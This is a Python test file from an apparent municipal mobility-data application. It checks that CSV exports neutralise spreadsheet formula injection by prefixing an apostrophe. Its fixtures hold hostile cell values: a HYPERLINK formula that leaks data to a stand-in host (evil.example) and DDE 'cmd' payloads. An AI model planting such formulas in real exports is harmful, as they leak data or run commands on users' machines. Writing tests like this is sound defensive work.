"""CSV exports cannot carry a spreadsheet formula (issue 7): a text cell that a spreadsheet would
run (= + - @, tab, carriage return first) is written with a leading apostrophe; numbers stay
numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from commune.accounts.models import Role
from commune.mobility import warehouse
from commune.mobility.services.exports import readings_export
from commune.mobility.tests.factories import SensorFactory
from commune.mobility.tests.test_observatory import member, url, write_data
from commune.mobility.tests.test_parking_occupancy import read

PERIOD = {"start": "2026-01-05", "end": "2026-01-18"}
HOSTILE = {
    "P01": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "P02": "+1+cmd|' /C calc'!A0",
    "P03": "-2+3",
    "P04": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_sites(town, tmp_path):
    """Rename four of the town's counting sites (the sites file is merged on the id)."""
    features = [
        {
            "type": "Feature",
            "id": site_id,
            "geometry": {"type": "Point", "coordinates": [6.66 + i / 1000, 46.51]},
            "properties": {"name": name, "kind": "counter"},
        }
        for i, (site_id, name) in enumerate(HOSTILE.items())
    ]
    path = tmp_path / "sites.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    report = warehouse.import_file(municipality=town, kind="sites", path=path)
    assert not report.quarantine


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_site_and_car_park_names_that_are_formulas_are_exported_as_text(
    staff_client, town_a, tmp_path
):
    # given: sites and a car park whose names are spreadsheet formulas
    write_data(town_a, days=14)
    _hostile_sites(town_a, tmp_path)
    park = SensorFactory(municipality=town_a, external_id="P-EVIL", name="=1+1", capacity=100)
    read(town_a, park, dt.datetime(2026, 1, 13, 7, 0, tzinfo=dt.UTC), 50)
    readings_export(municipality=town_a)
    analyst = staff_client(member(town_a, Role.MOBILITY_ANALYST))
    # when
    sites = _cells(
        analyst.get(url(town_a, "mobility:export-csv"), {**PERIOD, "indicator": "sites"})
    )
    parks = _cells(
        analyst.get(url(town_a, "mobility:export-csv"), {**PERIOD, "indicator": "occupancy"})
    )
    # then: no cell starts a formula, and each name is there after its apostrophe
    for row in sites + parks:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    names = {row[0]: row[1] for row in sites[1:]}
    for site_id, name in HOSTILE.items():
        assert names[site_id] == "'" + name
    assert parks[1][:2] == ["P-EVIL", "'=1+1"]
    # and: numbers are still numbers (a spreadsheet reads them as such)
    header = sites[0]
    assert all(float(row[header.index("volume")]) > 0 for row in sites[1:])
